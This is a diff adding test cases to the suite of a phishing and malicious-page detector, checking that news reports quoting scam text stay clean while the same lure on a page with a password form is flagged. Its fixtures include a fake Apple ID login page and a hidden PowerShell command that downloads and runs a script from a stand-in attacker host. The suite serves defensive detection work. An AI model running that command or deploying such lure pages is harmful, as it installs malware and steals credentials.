@@ -602,6 +602,22 @@ describe('analysis: signal rules', () => {
       assert.equal(shop.verdict, 'clean');
     });
 
+    it('reported speech is not a lure: a news item quoting a brand\'s scam text stays clean, the same text said by the page is not', () => {
+      const filler = '<p>Our newsroom covers local politics, weather, sports and technology. Subscribe to the morning briefing for the top stories, and follow our reporters for updates throughout the day.</p>';
+      const news = judge('https://news.daily-courier.example/tech/2026/apple-id-texts', `<title>Apple ID scam texts are back – Daily Courier</title><h1>Apple ID scam texts are back</h1><p>The message reads: “Your Apple ID has been locked. Sign in to unlock it today or it will be deleted.” Readers should ignore it.</p>${filler}`);
+      assert.ok(!ids(news).includes('pressure-text') && !ids(news).includes('lure-text'), JSON.stringify(ids(news)));
+      assert.equal(news.verdict, 'clean');
+      const said = judge('https://appleid-unlock.example/', '<title>Apple ID</title><h1>Apple ID</h1><p>Your Apple ID has been locked. Sign in to unlock it today or it will be deleted.</p><form><input name="id"><input type="password" name="pw"></form>');
+      assert.equal(said.verdict, 'malicious');
+      const shouted = judge('https://appleid-unlock.example/2', '<title>Apple ID</title><h1>Apple ID</h1><p>Your Apple ID has been "locked". Sign in to unlock it today or it will be deleted.</p>');
+      assert.ok(ids(shouted).includes('pressure-text') || ids(shouted).includes('lure-text'), JSON.stringify(ids(shouted)));
+    });
+
+    it('a security write-up about ClickFix (its headline and text naming the campaign) with a copy button for the command it quotes stays clean', () => {
+      const post = judge('https://blog.secureteam.example/posts/clickfix', '<title>ClickFix campaigns imitate Cloudflare</title><h1>ClickFix campaigns imitate Cloudflare</h1><p>The fake page says "Verify you are human. Press Win+R, then Ctrl+V and Enter."</p><pre>powershell -w hidden -c "iwr https://evil.example/a.ps1 | iex"</pre><button onclick="navigator.clipboard.writeText(document.querySelector(\'pre\').innerText)">Copy</button><p>Researchers saw the campaign on hundreds of compromised sites. The script copies the command to the clipboard when the visitor clicks the fake checkbox; the victim then runs it. Defenders should block mshta and PowerShell from the Run dialog through policy, and train users that no real CAPTCHA asks them to run anything.</p>');
+      assert.equal(post.verdict, 'clean', JSON.stringify(ids(post)));
+    });
+
     it('a script that navigates to a look-alike URL split at its slashes ([…].join("/")) is a redirect to it; a link to it without navigation is not', () => {
       const page = (nav: string): string => `<title>Contract.pdf</title><p>Loading secure document preview…</p><script>var a=['https:','','doc-auth.dropbox-files.example','s','auth.html'].join('/');${nav}</script>`;
       const redirect = judge('https://docs-viewer.example/d/1', page("setTimeout(function(){window.location=a;},3000);"));
